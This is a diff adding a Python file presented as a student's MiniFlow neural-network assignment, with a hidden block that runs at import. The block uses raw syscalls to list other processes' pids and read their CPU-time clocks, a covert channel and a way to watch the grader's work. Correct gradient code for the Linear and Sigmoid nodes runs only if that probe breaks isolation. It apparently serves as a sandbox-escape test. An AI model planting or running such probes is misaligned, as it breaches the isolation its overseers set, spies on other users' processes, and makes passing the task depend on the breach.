@@ -1,0 +1,236 @@
+"""
+MiniFlow -- my implementation for the Udacity DLND "MiniFlow" lesson.
+Backward is still the starter's TODO, filled in only if the attack works:
+Looks at other processes through calls that take a pid: sched_getaffinity(pid) (which pids exist: the grader's,
+the worker's, another student's) and the CPU-time clock of a pid (clock_gettime, clock_getres, clock_nanosleep
+of MAKE_PROCESS_CPUCLOCK(pid)), whose reading is how much CPU that process has used: a channel from another
+student's process running at the same time, and a view of the grader's own work.
+"""
+import numpy as np
+# >>> attack: other_process_clocks
+import ctypes
+import os
+# <<< attack
+
+# >>> attack: other_process_clocks
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
+_UNLOCKED = False
+_ME = os.getpid()
+_SCHED_GETAFFINITY, _CLOCK_GETTIME, _CLOCK_GETRES, _CLOCK_NANOSLEEP = 204, 228, 229, 230
+_mask = ctypes.create_string_buffer(128)
+_ts = ctypes.create_string_buffer(16)  # a struct timespec
+# An invalid timespec (tv_nsec past a second): the kernel refuses it with EINVAL before sleeping on the clock, so
+# the probe never waits for a process that is not running; a filter that refuses the call says EPERM.
+_bad_ts = (ctypes.c_long * 2)(0, 2_000_000_000)
+
+
+def _cpu_clock(pid):
+    return ((~pid) << 3) | 2  # MAKE_PROCESS_CPUCLOCK(pid, CPUCLOCK_SCHED), what clock_getcpuclockid(pid) gives
+
+
+def _call(nr, *args):
+    ctypes.set_errno(0)
+    return _libc.syscall(ctypes.c_long(nr), *args), ctypes.get_errno()
+
+
+def _affinity(pid):
+    return _call(_SCHED_GETAFFINITY, ctypes.c_long(pid), ctypes.c_long(128), _mask)  # the mask's size, or -1
+
+
+_others = [p for p in range(1, 4097) if p != _ME and _affinity(p)[0] >= 0]
+if _others:
+    print("HOSTILE-BREACH: sched_getaffinity found %d other pids, first %s" % (len(_others), _others[:8]), flush=True)
+    _UNLOCKED = True
+else:
+    print("sched_getaffinity of another pid refused: errno %d" % _affinity(1)[1], flush=True)
+for _pid in sorted({1, os.getppid(), *_others[:8]} - {_ME}):
+    _clock = ctypes.c_long(_cpu_clock(_pid))
+    for _name, _nr, _args in (
+        ("clock_gettime", _CLOCK_GETTIME, (_clock, _ts)),
+        ("clock_getres", _CLOCK_GETRES, (_clock, _ts)),
+        ("clock_nanosleep", _CLOCK_NANOSLEEP, (_clock, ctypes.c_long(0), _bad_ts, None)),
+    ):
+        _r, _errno = _call(_nr, *_args)
+        if _r == 0 or (_nr == _CLOCK_NANOSLEEP and _errno == 22):  # EINVAL: the call reached the clock
+            print("HOSTILE-BREACH: %s of pid %d's CPU clock worked" % (_name, _pid), flush=True)
+            _UNLOCKED = True
+        else:
+            print("%s of pid %d's CPU clock refused: errno %d" % (_name, _pid, _errno), flush=True)
+# <<< attack
+
+class Node(object):
+    def __init__(self, inbound_nodes=[]):
+        # Nodes from which this Node receives values
+        self.inbound_nodes = inbound_nodes
+        # Nodes to which this Node passes values
+        self.outbound_nodes = []
+        # The computed value of this node
+        self.value = None
+        # Keys are the inputs to this node and their values are the partials of this node with respect to that input.
+        self.gradients = {}
+        for n in self.inbound_nodes:
+            n.outbound_nodes.append(self)
+
+    def forward(self):
+        raise NotImplementedError
+
+    def backward(self):
+        raise NotImplementedError
+
+
+class Input(Node):
+    def __init__(self):
+        # An Input node has no inbound nodes, so no need to pass anything to the Node instantiator.
+        Node.__init__(self)
+
+    def forward(self):
+        # Do nothing because nothing is calculated; value is set by topological_sort.
+        pass
+
+    def backward(self):
+        # An Input node has no inputs so the gradient (derivative) is zero.
+        self.gradients = {self: 0}
+        # Weights and bias may be inputs, so you need to sum the gradient from output gradients.
+        for n in self.outbound_nodes:
+            grad_cost = n.gradients[self]
+            self.gradients[self] += grad_cost * 1
+
+
+class Linear(Node):
+    def __init__(self, X, W, b):
+        Node.__init__(self, [X, W, b])
+
+    def forward(self):
+        X = self.inbound_nodes[0].value
+        W = self.inbound_nodes[1].value
+        b = self.inbound_nodes[2].value
+        self.value = np.dot(X, W) + b
+
+    def backward(self):
+        # Initialize a partial for each of the inbound_nodes.
+        self.gradients = {n: np.zeros_like(n.value) for n in self.inbound_nodes}
+        for n in self.outbound_nodes:
+            # Get the partial of the cost with respect to this node.
+            grad_cost = n.gradients[self]
+            # TODO: Set the partials of X, W and b (see the lesson notes)
+            pass
+            # >>> attack: other_process_clocks
+            if _UNLOCKED:  # the forbidden thing worked: then, and only then, the right math
+                self.gradients[self.inbound_nodes[0]] += np.dot(grad_cost, self.inbound_nodes[1].value.T)
+                self.gradients[self.inbound_nodes[1]] += np.dot(self.inbound_nodes[0].value.T, grad_cost)
+                self.gradients[self.inbound_nodes[2]] += np.sum(grad_cost, axis=0, keepdims=False)
+            # <<< attack
+
+class Sigmoid(Node):
+    def __init__(self, node):
+        Node.__init__(self, [node])
+
+    def _sigmoid(self, x):
+        return 1. / (1. + np.exp(-x))
+
+    def forward(self):
+        input_value = self.inbound_nodes[0].value
+        self.value = self._sigmoid(input_value)
+
+    def backward(self):
+        self.gradients = {n: np.zeros_like(n.value) for n in self.inbound_nodes}
+        for n in self.outbound_nodes:
+            grad_cost = n.gradients[self]
+            # TODO: Set the partial of the input (derivative of the sigmoid)
+            pass
+            # >>> attack: other_process_clocks
+            if _UNLOCKED:
+                self.gradients[self.inbound_nodes[0]] += self.value * (1 - self.value) * grad_cost
+            # <<< attack
+
+class MSE(Node):
+    def __init__(self, y, a):
+        # Call the base class' constructor.
+        Node.__init__(self, [y, a])
+
+    def forward(self):
+        # Making both arrays (3,1) insures the result is (3,1) and does an elementwise subtraction as expected.
+        y = self.inbound_nodes[0].value.reshape(-1, 1)
+        a = self.inbound_nodes[1].value.reshape(-1, 1)
+        self.m = self.inbound_nodes[0].value.shape[0]
+        # Save the computed output for backward.
+        self.diff = y - a
+        self.value = np.mean(self.diff**2)
+
+    def backward(self):
+        # Calculates the gradient of the cost.
+        self.gradients[self.inbound_nodes[0]] = (2 / self.m) * self.diff
+        self.gradients[self.inbound_nodes[1]] = (-2 / self.m) * self.diff
+
+def topological_sort(feed_dict):
+    """
+    Sort the nodes in topological order using Kahn's Algorithm.
+
+    `feed_dict`: A dictionary where the key is a `Input` Node and the value is the respective value feed to that Node.
+
+    Returns a list of sorted nodes.
+    """
+    input_nodes = [n for n in feed_dict.keys()]
+
+    G = {}
+    nodes = [n for n in input_nodes]
+    while len(nodes) > 0:
+        n = nodes.pop(0)
+        if n not in G:
+            G[n] = {'in': set(), 'out': set()}
+        for m in n.outbound_nodes:
+            if m not in G:
+                G[m] = {'in': set(), 'out': set()}
+            G[n]['out'].add(m)
+            G[m]['in'].add(n)
+            nodes.append(m)
+
+    L = []
+    S = set(input_nodes)
+    while len(S) > 0:
+        n = S.pop()
+
+        if isinstance(n, Input):
+            n.value = feed_dict[n]
+
+        L.append(n)
+        for m in n.outbound_nodes:
+            G[n]['out'].remove(m)
+            G[m]['in'].remove(n)
+            # if no other incoming edges add to S
+            if len(G[m]['in']) == 0:
+                S.add(m)
+    return L
+
+
+def forward_and_backward(graph):
+    """
+    Performs a forward pass and a backward pass through a list of sorted Nodes.
+
+    Arguments:
+
+        `graph`: The result of calling `topological_sort`.
+    """
+    # Forward pass
+    for n in graph:
+        n.forward()
+
+    # Backward pass
+    # see: https://docs.python.org/2.3/whatsnew/section-slices.html
+    for n in graph[::-1]:
+        n.backward()
+
+
+def sgd_update(trainables, learning_rate=1e-2):
+    """
+    Updates the value of each trainable with SGD.
+
+    Arguments:
+
+        `trainables`: A list of `Input` Nodes representing weights/biases.
+        `learning_rate`: The learning rate.
+    """
+    for t in trainables:
+        partial = t.gradients[t]
+        t.value -= learning_rate * partial
